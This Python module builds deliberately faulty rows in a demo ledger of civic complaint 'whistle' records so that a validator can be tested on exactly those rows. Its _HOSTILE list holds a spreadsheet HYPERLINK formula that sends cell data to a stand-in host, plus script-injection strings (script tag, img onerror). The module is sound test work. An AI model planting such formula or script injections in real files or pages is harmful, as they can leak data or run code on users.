"""Wrong rows of the ledger of whistles: put in on purpose, each so that exactly the rows named are refused."""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from data.demo.cases import Bools
from data.demo.clocks import Cell
from data.demo.faults import Fault
from data.demo.places import Index, Places

_SHARE = 0.0022
_HOSTILE = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")',
    "<script>alert('演示')</script>",
    "楼顶漏水，请联系13800138000，急",
    "<img src=x onerror=alert(1)>",
)


@dataclass
class Ledger:
    """The ledger while rows go wrong.

    Attributes
    ----------
    columns
        Contract name → cells.
    whistle
        Number of each row's whistle, ascending, the lead's row first.
    """

    columns: dict[str, list[Cell]]
    whistle: Index
    found: list[tuple[str, int, str]] = field(default_factory=list)

    def put(self, kind: str, row: int, **cells: Cell) -> None:
        """Write the cells and note the row under the first column named."""
        for name, value in cells.items():
            self.columns[name][row] = value
        self.found.append((kind, row, next(iter(cells))))


def spoil_ledger(
    ledger: Ledger, places: Places, rng: np.random.Generator
) -> tuple[list[int], tuple[Fault, ...]]:
    """Make some rows wrong in place.

    Returns
    -------
    order, faults
        Rows in the order to be written, copies included, and what is wrong where in that order.
    """
    whistles, size = np.unique(ledger.whistle, return_counts=True)
    first = np.searchsorted(ledger.whistle, whistles)
    free: Bools = np.ones(len(whistles), dtype=np.bool_)
    count = max(round(_SHARE * len(whistles)), 1) if len(whistles) >= 40 else 0
    closed = np.array([ledger.columns["closed_at"][row] is not None for row in first.tolist()])
    reported = np.array([ledger.columns["reported_at"][row] is not None for row in first.tolist()])

    def choose(suits: Bools) -> list[tuple[int, int]]:
        """First row and number of rows of some whistles that suit and are still right."""
        pool = np.flatnonzero(suits & free)
        chosen = np.sort(rng.choice(pool, min(count, len(pool)), replace=False))
        free[chosen] = False
        return [(int(first[w]), int(size[w])) for w in chosen.tolist()]

    # Faults of the whistle itself go into whistles of one row, so that no right row is refused with it.
    alone, together = size == 1, size > 1
    for row, _ in choose(together):
        ledger.put("unknown_department", row + 1, department_name="和谐办")
    for row, _ in choose(alone):
        ledger.put("unknown_theme", row, theme="其他事项")
    for row, length in choose(together):
        ledger.columns["role"][row + 1] = "牵头"
        ledger.found += [("two_leads", each, "role") for each in range(row, row + length)]
    for row, _ in choose(alone):
        ledger.put("no_lead", row, role="协同")
    for row, _ in choose(alone & reported):
        ledger.put("wrong_order", row, reported_at=_earlier(ledger.columns["blown_at"][row], 2.0))
    for row, _ in choose(alone & closed):
        ledger.put("impossible_time", row, closed_at=_earlier(ledger.columns["blown_at"][row], 9.0))
    for row, _ in choose(alone):
        ledger.put(
            "bad_code", row, community_code=_unknown_code(places, ledger.columns["community_code"][row])
        )
    for row, _ in choose(alone):
        ledger.put("missing_required", row, blown_by=None)
    for number, (row, _) in enumerate(choose(alone)):
        ledger.put("hostile_text", row, title=_HOSTILE[number % len(_HOSTILE)])
    copies = [row for row, _ in choose(together)]
    return _written(ledger, copies)


def _written(ledger: Ledger, copies: list[int]) -> tuple[list[int], tuple[Fault, ...]]:
    """Rows with each copy just below its original, and the faults by their written position."""
    order: list[int] = []
    place: dict[int, int] = {}
    faults: list[Fault] = []
    for row in range(len(ledger.whistle)):
        place[row] = len(order)
        order.append(row)
        if row in copies:
            faults.append(Fault("duplicate", len(order), "whistle_no"))
            order.append(row)
    faults += [Fault(kind, place[row], column) for kind, row, column in ledger.found]
    return order, tuple(sorted(faults, key=lambda fault: fault.position))


def _earlier(at: Cell, days: float) -> Cell:
    return float(at) - days if isinstance(at, float) else None


def _unknown_code(places: Places, code: Cell) -> Cell:
    made = f"{str(code)[:6]}999999"
    return made if made not in set(places.community_codes) else None
